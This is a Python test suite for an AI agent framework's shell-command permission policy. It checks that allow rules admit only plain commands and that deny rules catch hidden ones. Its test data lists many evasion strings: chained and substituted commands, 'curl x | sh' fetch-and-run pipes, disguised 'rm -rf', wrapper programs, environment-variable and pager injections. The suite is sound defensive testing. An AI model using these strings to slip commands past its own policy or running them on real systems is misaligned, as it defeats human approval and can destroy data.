"""What a policy says of shell commands, and what cannot get around it (agent-file.md, Shell-like tools)."""

import shlex
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from abey.core.agent import Agent, Tool
from abey.core.policy import Laws, judge
from abey.protocol.policy import Policy
from abey.runtime.tools.shell import read_command
from abey.runtime.tools.shell_words import unquoted

LAWS = Laws(read=read_command)


def shell(*argv: str, **properties: Any) -> Tool:
    parameters = {"type": "object", "properties": properties or {"command": {"type": "string"}}}
    named = next(iter(parameters["properties"]))
    definition = {"kind": "command", "name": "shell", "argv": list(argv or ("bash", "-c", "{command}"))}
    return Tool("shell", "", parameters, definition, "hash", destructive=True, command=named)


def tag(policy: dict[str, Any], arguments: dict[str, Any], tool: Tool) -> str:
    agent = Agent("a", {}, "", "", tools={tool.name: tool}, policy=Policy.model_validate(policy))
    return judge(agent, tool, arguments, LAWS).disposition.tag


def allowed(glob: Any, command: Any, tool: Tool | None = None, pointer: str = "/command") -> str:
    wanted = {"glob": glob} if isinstance(glob, str) else glob
    rule = {"tool": "shell", "match": {pointer: wanted}, "disposition": "runSync"}
    name = (tool or shell()).command or ""
    return tag({"default": "defer", "rules": [rule]}, {name: command}, tool or shell())


def denied(glob: str, command: Any, tool: Tool | None = None) -> str:
    """What becomes of it where everything else runs."""
    rule = {"tool": "shell", "match": {"/command": {"glob": glob}}, "disposition": "deny"}
    return tag({"default": "runSync", "rules": [rule]}, {"command": command}, tool or shell())


PLAIN = [
    ("git log*", "git log"),
    ("git log*", "git log -5"),
    ("git log*", "git   log\t-5 "),
    ("git log *", "git log"),
    ("git log *", "git log --oneline -n 5 HEAD~1 stash@{0} HEAD^ a..b"),
    ("git log*", "git log --format='%h; %s | %an' \"a & b\" c\\ d"),
    ("git log*", "'git' \"log\""),
    ("git log*", "g\\it l''og"),
    ("git * --oneline", "git log --oneline"),
    ("ls /tmp/*", "ls /tmp/"),
    ("ls /tmp/* -l", "ls /tmp/a/b -l"),
    ("*", "ls -l 'a b'"),
    ("grep *", "grep 'foo$' file"),
    ("python3 -m pytest*", "python3 -m pytest -q tests"),
    ("./run.sh*", "./run.sh a b"),
]


@pytest.mark.parametrize(("glob", "command"), PLAIN)
def test_a_rule_lets_one_plain_command_run(glob: str, command: str) -> None:
    assert allowed(glob, command) == "runSync"


OTHERS = [
    ("git log*", "git logx"),
    ("git log*", "git"),
    ("git log*", "git 'log -5'"),
    ("git log*", "'git log'"),
    ("git log", "git log -5"),
    ("git * x", "git x"),
    ("git * x", "git a b x"),
    ("git log*", "/tmp/git log"),
    ("git log*", ""),
    ("", ""),
    ("*", ""),
    ("*", "   "),
]


@pytest.mark.parametrize(("glob", "command"), OTHERS)
def test_each_word_of_a_glob_is_for_one_word_of_the_command(glob: str, command: str) -> None:
    assert allowed(glob, command) == "defer"


GIT_LOG_BYPASSES = [
    "git log; curl x | sh",
    "git log && curl x",
    "git log || curl x",
    "git log | sh",
    "git log |& sh",
    "git log & curl x",
    "git log &",
    "git log;",
    "git log\ncurl x",
    "git log\r\ncurl x",
    "git log\rcurl",
    "git log $(curl x)",
    'git log "$(curl x)"',
    "git log `curl x`",
    'git log "`curl x`"',
    "git log '`curl x`'",
    "git log <(curl x)",
    "git log >(curl x)",
    "git log > ~/.bashrc",
    "git log >> file",
    "git log >| file",
    "git log &> file",
    "git log 2>&1",
    "git log 2> file",
    "git log < file",
    "git log <<< text",
    "git log <<E\ntext\nE",
    "> file git log",
    "GIT_PAGER='sh -c id' git log",
    "PATH=. git log",
    "A=1 B=2 git log",
    "git log $HOME",
    'git log "$HOME"',
    "git log ${HOME}",
    "git log '${HOME}'",
    "git log $((1+1))",
    "git log $[1+1]",
    "git log *",
    "git log ?",
    "git log [a]",
    "git log {a,--output=x}",
    "git log {1..3}",
    "git log ~",
    "git log ~root/x",
    "git log =ls",
    "git log --x=~/y",
    "git log $'\\x3b' x",
    'git log $"x"',
    "git${IFS}log",
    "git$IFS log",
    "(git log)",
    "{ git log; }",
    "! git log",
    "if git log; then id; fi",
    "for x in a; do git log; done",
    "while git log; do id; done",
    "case x in x) git log;; esac",
    "f() { git log; }",
    "function f { git log; }",
    "coproc git log",
    "time git log",
    "[[ a ]] && git log",
    "git log # comment",
    "# comment\ngit log",
    "git log \\\n-5",
    "git lo\\\ng",
    "git log \\",
    "git log 'unclosed",
    'git log "unclosed',
    "git log )",
    "git log\u00a0-5",
    "git\u2003log",
    "git log\u200b",
    "git log\x00-5",
    "git log\x0b",
    "git log \x1b[2K",
    "git log \u202e",
    "git log @(a|b)",
    "git log *(e:'curl x':)",
    "git -c core.pager='curl x' log",
    "git --exec-path=. log",
    "git -C . -c core.pager='curl x' log",
    "git --git-dir x --exec-path=. log",
    "git log" + " a" * 70_000,
    "git log " + "$(" * 5_000,
    "git log " + "'" * 20_001,
    "git log" + "|a" * 30_000,
]


@pytest.mark.parametrize("command", GIT_LOG_BYPASSES, ids=lambda command: command[:40])
def test_nothing_but_one_plain_command_is_let_run(command: str) -> None:
    assert allowed("git log*", command) == "defer"
    assert allowed("git*", command) == "defer"
    assert allowed("*", command) == "defer"
    assert allowed([command, {"glob": command}], command) == "defer"


WRAPPED = [
    "env git log",
    "env -i A=1 git log",
    "/usr/bin/env git log",
    "sh -c 'git log'",
    "bash -lc 'git log'",
    "zsh -c 'git log'",
    "bash",
    "bash -s",
    "bash /dev/stdin",
    "eval git log",
    "eval 'git log'",
    "exec git log",
    "xargs git log",
    "timeout 5 git log",
    "nohup git log",
    "sudo git log",
    "sudo -u root git log",
    "doas git log",
    "nice git log",
    "nice -n 5 git log",
    "ionice git log",
    "command git log",
    "command -p git log",
    "builtin echo",
    "watch git log",
    "ssh host git log",
    "setsid git log",
    "stdbuf -oL git log",
    "flock f git log",
    "strace git log",
    "script -c 'git log'",
    "su -c 'git log'",
    "busybox sh",
    "parallel git log",
    "trap 'git log' EXIT",
    "alias git='rm -rf x'",
    "find . -exec git log {} +",
    "find . -execdir git log ';'",
    "find . -ok git log ';'",
    "find . -delete",
    "find . -fprintf out %p",
    "repeat 3 git log",
    "noglob git log",
    "- git log",
    "printf -v 'a[$(git log)]' x",
    "test -v 'a[$(git log)]'",
]


@pytest.mark.parametrize("command", WRAPPED)
def test_a_command_that_starts_another_is_not_plain(command: str) -> None:
    assert allowed("*", command) == "defer"
    assert allowed([command, {"glob": command}], command) == "defer"


RM_HIDDEN = [
    "rm -rf x",
    "true; rm -rf x",
    "true && rm -rf x",
    "false || rm -rf x",
    "true | rm -rf x",
    "true |& rm -rf x",
    "true & rm -rf x",
    "true\nrm -rf x",
    "true;rm -rf x",
    "echo $(rm -rf x)",
    'echo "$(rm -rf x)"',
    "echo `rm -rf x`",
    'echo "`rm -rf x`"',
    "echo $(echo $(rm -rf x))",
    "cat <(rm -rf x)",
    "tee >(rm -rf x)",
    "A=1 rm -rf x",
    "a=$(rm -rf x)",
    "a=(1 $(rm -rf x))",
    "r''m -rf x",
    'r"m" -rf x',
    '"rm" -rf x',
    "'rm' -rf x",
    "\\rm -rf x",
    "r\\m -rf x",
    "$'\\x72m' -rf x",
    "$'\\162\\155' -rf x",
    "$'\\u0072m' -rf x",
    '$"rm" -rf x',
    "/bin/rm -rf x",
    "/usr/../bin/rm -rf x",
    "./rm -rf x",
    "r\\\nm -rf x",
    "rm\\\n -rf x",
    "rm\t-rf x",
    "  rm  -rf  x  ",
    "# hm\nrm -rf x",
    "true\n\\rm -rf x",
    "<\r rm -rf x",
    "true\r\nrm -rf x",
    "(rm -rf x)",
    "{ rm -rf x; }",
    "! rm -rf x",
    "if true; then rm -rf x; fi",
    "if rm -rf x; then true; fi",
    "for x in a; do rm -rf x; done",
    "while true; do rm -rf x; done",
    "until rm -rf x; do true; done",
    "case a in a) rm -rf x;; esac",
    "select a in b; do rm -rf x; done",
    "f() { rm -rf x; }; f",
    "function f { rm -rf x; }; f",
    "coproc rm -rf x",
    "coproc X { rm -rf x; }",
    "time rm -rf x",
    "time -p rm -rf x",
    "> out rm -rf x",
    "rm > out -rf x",
    "rm -rf x > out",
    "2>&1 rm -rf x",
    "rm -rf x <<< y",
    "cat <<E\n$(rm -rf x)\nE",
    "sh <<E\nrm -rf x\nE",
    "sh <<'E'\nrm -rf x\nE",
    "sudo bash -s <<-E\n\trm -rf x\n\tE",
    "bash <<< 'rm -rf x'",
    "sh -c 'rm -rf x'",
    'bash -lc "true; rm -rf x"',
    "sh -c \"sh -c 'rm -rf x'\"",
    "/bin/sh -e -c 'rm -rf x'",
    "env rm -rf x",
    "env -i A=1 rm -rf x",
    "env -S 'rm -rf x'",
    "eval rm -rf x",
    "eval 'rm -rf x'",
    "eval \"r\"'m -rf x'",
    "exec rm -rf x",
    "command rm -rf x",
    "builtin rm -rf x",
    "xargs rm -rf",
    "ls | xargs -n1 -I% rm -rf %",
    "ls | xargs -0 sh -c 'rm -rf $0'",
    "timeout -s KILL 5 rm -rf x",
    "nohup rm -rf x &",
    "sudo -u root rm -rf x",
    "sudo -- rm -rf x",
    "doas rm -rf x",
    "su -c 'rm -rf x'",
    "nice -n 5 rm -rf x",
    "setsid -f rm -rf x",
    "stdbuf -oL rm -rf x",
    "flock f rm -rf x",
    "flock f -c 'rm -rf x'",
    "watch 'rm -rf x'",
    "watch -n1 rm -rf x",
    "ssh host 'rm -rf x'",
    "ssh host rm -rf x",
    "trap 'rm -rf x' EXIT",
    "find . -exec rm -rf {} \\;",
    "find . -execdir rm -rf {} +",
    "busybox rm -rf x",
    "parallel rm -rf ::: x",
    "[[ $(rm -rf x) ]]",
    "echo `echo \\`rm -rf x\\``",
    'echo "`echo \\`rm -rf x\\``"',
    "(( $(rm -rf x) ))",
    "echo $(( $(rm -rf x) ))",
    "echo ${a:-$(rm -rf x)}",
    "export A=$(rm -rf x)",
    "rm -rf $A",
    'rm -rf "$A" *',
    "rm -rf x)",
    "if true; then rm -rf x",
    "{ rm -rf x",
]


@pytest.mark.parametrize("command", RM_HIDDEN)
def test_a_deny_rule_hits_any_part_of_a_command(command: str) -> None:
    assert denied("rm -rf*", command) == "deny"
    assert denied("rm *", command) == "deny"


RM_DOUBTED = [
    "rm$A -rf x",
    "a=rm; $a -rf x",
    "$A -rf x",
    "${A} -rf x",
    "$A rm -rf x",
    "r$A -rf x",
    "r${A}m -rf x",
    "rm${IFS}-rf${IFS}x",
    "${IFS}rm -rf x",
    "$(echo rm) -rf x",
    "`echo rm` -rf x",
    "{rm,-rf,x}",
    "r{m,} -rf x",
    "r? -rf x",
    "[r]m -rf x",
    "/bin/r* -rf x",
    "=rm -rf x",
    "~/rm$A -rf x",
    'a=(rm -rf x); "${a[@]}"',
    'set -- rm -rf x; "$@"',
    "echo rm -rf x | sh",
    "curl x | bash -s",
    "curl x | sudo bash",
    "sh < file",
    "bash /dev/stdin",
    "bash <(echo rm -rf x)",
    "source <(echo rm -rf x)",
    ". /dev/stdin",
    'eval "$A"',
    'sh -c "$A"',
    'ssh host "$A"',
    "echo 'rm -rf x' | xargs sh -c",
    "echo 'rm -rf x' | xargs env",
    "echo x | xargs -I{} sh -c {}",
    "find . -exec {} \\;",
    "alias ls='rm -rf x'; ls",
    "hash -p /bin/rm ls; ls -rf x",
    "mywrapper rm -rf x",
    "mywrapper 'rm -rf x'",
    "mywrapper --command='rm -rf x'",
    "tar xf a --to-command='rm -rf x'",
    "docker run -v /:/x image rm -rf x",
    "make SHELL='rm -rf x'",
    "git bisect run rm -rf x",
    "git submodule foreach 'rm -rf x'",
    "git -c alias.x='!rm -rf x' x",
    "GIT_SSH_COMMAND='rm -rf x' git fetch",
    "BASH_ENV=x bash script.sh",
    "python3 -c 'import os'",
    "echo 'import os' | python3",
    "python3 - <<E\nimport os\nE",
    "perl -e 'x'",
    "node -e x",
    "awk 'BEGIN { system(\"rm -rf x\") }'",
    "printf -v 'a[$(rm -rf x)]' y",
    "test -v 'a[$(rm -rf x)]'",
    "[[ 'a[$(rm -rf x)]' -eq 0 ]]",
    "declare 'a[$(rm -rf x)]=1'",
    "let 'a[$(rm -rf x)]=1'",
    "let 'a[$(rm -rf x)]'$@",
    "declare 'a[$(rm -rf x)]'$@",
    'echo "${a:-`rm -rf x`}"',
    "cat <<E\n`rm -rf x`\nE",
    "echo *(e:'rm -rf x':)",
    "for x (a b) rm -rf x",
    "env -S'rm -rf x'",
    "env -iS'rm -rf x'",
    "env -Srm -rf x",
    "su -c'rm -rf x'",
    "script -qc'rm -rf x'",
    "flock f -c'rm -rf x'",
    "tar -I'rm -rf x' -cf a b",
    "rsync -e'rm -rf x' a b:c",
    "socat - EXEC:'rm -rf x'",
    "vim '+!rm -rf x' f",
    "man -P 'rm -rf x' ls",
    "jobs -x rm -rf x",
    "git push --receive-pack='rm -rf x' .",
    "git fetch --upload-pack 'rm -rf x' .",
    "git config alias.x '!rm -rf x'",
    "git rebase -x'rm -rf x' HEAD~1",
    "curl x | bash -s -- y",
    "curl x | bash -euo pipefail",
    "curl x | bash -O extglob",
    "bash --rcfile f -i",
    "cat f | bash //dev/stdin",
    "cat f | bash ../../dev/stdin",
    "cd /dev; cat f | bash stdin",
    "cat f | python3 -W ignore",
    "cat f | node --input-type module",
    "sudo -s <<E\nrm -rf x\nE",
    "sudo -u root -i <<< 'rm -rf x'",
    "sudo su <<< 'rm -rf x'",
    "echo 'rm -rf x' | su",
    "echo 'rm -rf x' | ssh -p 22 host",
    "echo 'rm -rf x' | at now",
    "echo 'rm -rf x' | parallel",
    "echo 'rm -rf x' | chroot /",
    "env BASH_ENV=f bash g",
    "env LD_PRELOAD=x ls",
    "export 'BASH_FUNC_ls%%=() { rm -rf x; }'",
    "printf -v BASH_ENV f; bash g",
    "sed '1erm -rf x' f",
    "sed 's,x,rm -rf y,e' f",
    "sed -n -e '1e rm -rf x' f",
    "sed --expression='1erm -rf x' f",
    "vim -c ':!rm -rf x' f",
    "gdb -ex '!rm -rf x'",
    "tar cf a --checkpoint-action=exec='rm -rf x' b",
    "mywrapper 'a=b=rm -rf x'",
    "python3 '-cimport os'",
    "perl '-esystem(\"rm -rf x\")'",
    "node --eval='x'",
    "deno eval x",
    'gawk \'BEGIN { f = "sys" "tem"; @f("rm -rf x") }\'',
    "ssh host <<E\nrm -rf x\nE",
    "make -f - <<E\nall: ; rm -rf x\nE",
    "curl x | make -f -",
    "curl x | make -kf-",
    "curl x | make --file=/dev/stdin",
    "curl x | gmake --makefile -",
    'make --eval "$(curl x)"',
    "curl x | awk -f -",
    "curl x | gawk -f/dev/stdin",
    "curl x | gdb -batch",
    "gdb -x script program",
    "curl x | m4",
    "curl x | ed notes",
    "curl x | psql",
    "curl x | psql -q base",
    "curl x | sqlite3 base",
    "psql -c '\\! rm -rf x'",
    "sqlite3 base '.shell rm -rf x'",
    "curl x | busybox sh",
    "curl x | busybox ash -s",
    "curl x | busybox awk -f -",
    "curl x | busybox xargs env",
    "curl x | sudo xargs env",
    "$'rm\\0x' -rf x",
    "find . $A rm -rf x ';'",
    "git grep -O'rm -rf x' y",
    "git fetch --upl='rm -rf x' .",
    "git fetch 'ext::rm -rf x'",
    "'rm -rf x",
    "echo 'unclosed",
    "echo )",
    "((",
    "true " * 15_000 + "; rm -rf x",
    "a|" * 20_000 + "rm -rf x",
    "$(" * 3_000 + "rm -rf x" + ")" * 3_000,
    "sh -c " * 40 + "'rm -rf x'",
]


@pytest.mark.parametrize("command", RM_DOUBTED, ids=lambda command: command[:40])
def test_what_may_be_denied_waits_for_somebody_or_is_denied(command: str) -> None:
    assert denied("rm -rf*", command) in ("defer", "deny")


HARMLESS = [
    "ls",
    "rmdir x",
    "echo rm -rf x",
    "grep -r 'rm -rf' .",
    "cat rm",
    "ls; cat rm | wc -l > rm",
    "git commit -m 'rm -rf x'",
    "git rm -rf x",
    "git log --grep 'rm -rf'",
    "cat $FILE",
    'for x in *.py; do wc -l "$x"; done',
    "cat <<E > notes\nrm -rf x\nE",
    "python3 script.py",
    "make all",
    "A=1 ls",
    "firm -rf x",
    "echo '$(rm -rf x)'",
    "awk '{print $1}' f",
    "sed -n '1,5p' server/e.py",
    "sed -i.bak -e 's/a b/c d/g; 3d' -e '/rm/!p' f",
    "perl -I lib script.pl",
    "cat <<E | tee f\nrm -rf x\nE",
    "git commit -F - <<E\nrm -rf x\nE",
    "sudo ls -la",
    "ssh -p 22 host ls",
    "env A=1 ls",
    "bash -eu script.sh",
    "bash -o pipefail ./dev/script.sh",
    "python3 -W ignore script.py",
    "git push -u origin main",
    "sed -i s/a/b/ f",
    "make -f other.mk -j4 all",
    "awk -f columns.awk -",
    "awk -F, '{print $2}' f",
    "psql -c 'select 1' base",
    "sqlite3 base 'select 1'",
    "busybox ls -l",
]


@pytest.mark.parametrize("command", HARMLESS)
def test_a_deny_rule_leaves_what_it_is_not_about(command: str) -> None:
    assert denied("rm -rf *", command) == "runSync"


def test_git_is_known_behind_its_options() -> None:
    for command in (
        "git push",
        "git -C /x push",
        "git --no-pager -C /x push -f",
        "git --git-dir=x push",
        "/bin/git push",
    ):
        assert denied("git push*", command) == "deny"
    assert denied("git push*", "git -c a.b=c push") == "deny"


def test_a_glob_of_a_deny_rule_is_tried_on_the_text_too() -> None:
    assert (denied("*push*", "git push"), denied("*push*", "git p'us'h"), denied("*push*", "ls")) == (
        "deny",
        "deny",
        "runSync",
    )


def test_what_is_asked_of_the_shell_beside_the_command_is_read_too() -> None:
    eager = shell("bash", "-c", "cd /x && {command}")
    assert (allowed("git log*", "git log", eager), denied("rm *", "rm x", eager)) == ("defer", "deny")
    assert denied("cd *", "ls", eager) == "deny"
    quoted = shell("bash", "-c", "echo '{command}'")
    assert (denied("rm *", "'; rm x; '", quoted), allowed("*", "'; rm x; '", quoted)) == ("deny", "defer")


def test_a_shell_that_reads_words_in_its_own_way_is_handed_nothing_plain() -> None:
    fish = shell("fish", "-c", "{command}")
    assert (allowed("ls*", "ls", fish), denied("rm *", "rm x", fish)) == ("defer", "deny")


def test_a_second_parameter_that_the_shell_reads_is_a_command_as_well() -> None:
    two = shell("sh", "-c", "{command} {more}", command={}, more={})
    rule = {"tool": "shell", "match": {"/more": {"glob": "a*"}}, "disposition": "runSync"}
    assert tag({"default": "defer", "rules": [rule]}, {"command": "ls", "more": "a; rm x"}, two) == "defer"


def test_other_ways_to_name_the_command_are_no_way_around() -> None:
    whole = {"command": "git log; rm x"}
    assert allowed(whole, "git log; rm x", pointer="") == "defer"
    assert allowed({"command": "git log"}, "git log", pointer="") == "runSync"
    assert allowed(["git log", "ls"], "ls") == "runSync"
    assert allowed("ls", ["ls", ";", "rm"], pointer="/command/0") == "defer"
    assert allowed(5, 5) == "defer"
    assert denied("*rm*", ["rm", "x"]) == "deny"


@pytest.mark.parametrize("size", [1_000, 60_000, 1_000_000])
@pytest.mark.parametrize(
    "piece",
    [
        "a|",
        "a;",
        "$(",
        "'",
        "<<A ",
        "a=(",
        "[[ ( ",
        "f(){ ",
        "\\",
        "sudo ",
        "git a ",
        "find -exec ",
        "b 'c d' ",
        "sh -c ",
    ],
)
def test_reading_a_command_is_bounded_work(piece: str, size: int) -> None:
    script = read_command(shell(), {"command": (piece * size)[:size]})
    assert len(script.commands) <= 2_000
    assert script.doubt is not None or not script.plain or len(script.commands) == 1


def test_words_lose_their_quotes_as_in_a_shell() -> None:
    words = {
        "a'b'\"c\"\\d": "abcd",
        "$'\\n\\x41\\101\\u0042'": "\nAAB",
        "'$x'": "$x",
        '"a\\"b\\c"': 'a"b\\c',
        "a$": "a$",
    }
    assert {text: unquoted(text).text for text in words} == words
    assert all(unquoted(text).literal for text in words)


WORDS = st.sampled_from(["git", "log", "-5", "HEAD", "'a b'", '"c"', "d\\e"])
ALLOWED = st.lists(WORDS, max_size=4).map(lambda words: " ".join(["git log", *words]))
TIES = st.sampled_from(["; ", " && ", " || ", " | ", " & ", "\n", " |& ", ";\n"])
OTHER = st.sampled_from(["curl x", "sh", "rm -rf x", "$X", "true"])
AROUND = st.sampled_from(
    [
        *("sh -c {quoted}", "eval {quoted}", "sh <<E\n{}\nE", "env {}", "sudo {}", "timeout 5 {}", "xargs {}"),
        *("nohup {} &", "time {}", "exec {}", "nice -n 1 {}", "find . -exec {} \\;", "X=1 {}", "! {}", "( {} )"),
        *("{{ {}; }}", "echo $({})", "echo `{}`", 'echo "$({})"', "cat <({})", "{} > f", "< f {}"),
        *("if {}; then :; fi", "while {}; do :; done", "f() {{ {}; }}; f"),
    ]
)


def _around(template: str, command: str) -> str:
    return template.format(command, quoted=shlex.quote(command))


COMPOSED = st.one_of(
    st.builds(lambda a, tie, b: f"{a}{tie}{b}", ALLOWED, TIES, OTHER),
    st.builds(lambda a, tie, b: f"{b}{tie}{a}", ALLOWED, TIES, OTHER),
    st.builds(_around, AROUND, ALLOWED),
    st.builds(lambda one, two, a: _around(one, _around(two, a)), AROUND, AROUND, ALLOWED),
)


@settings(max_examples=300, deadline=None)
@given(COMPOSED)
def test_whatever_is_made_around_an_allowed_command_is_not_let_run(command: str) -> None:
    assert allowed("git log*", command) == "defer"


DENIED = st.sampled_from(["rm -rf x", "r'm' -rf x", "\\rm -rf x", "/bin/rm -rf x"])


def _nested(inner: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    wrapped = st.builds(_around, AROUND, inner)
    tied = st.builds(lambda a, tie, b: f"{a}{tie}{b}", OTHER, TIES, inner)
    return wrapped | tied | st.builds(lambda a, tie, b: f"{a}{tie}{b}", inner, TIES, OTHER)


@settings(max_examples=300, deadline=None)
@given(st.recursive(DENIED, _nested, max_leaves=4))
def test_whatever_is_made_around_a_denied_command_never_runs(command: str) -> None:
    assert denied("rm *", command) in ("deny", "defer")


@settings(max_examples=300, deadline=None)
@given(st.text(st.sampled_from("rm -f;|&$(){}`'\"\\<>\n *?~=#xE"), max_size=30))
def test_whatever_a_text_is_two_shells_would_agree_on_what_is_let_run(command: str) -> None:
    if allowed("*", command) == "runSync":
        script = read_command(shell(), {"command": command})
        assert (len(script.commands[0].words) > 0, script.doubt) == (True, None)
        assert not set("\n`") & set(command)
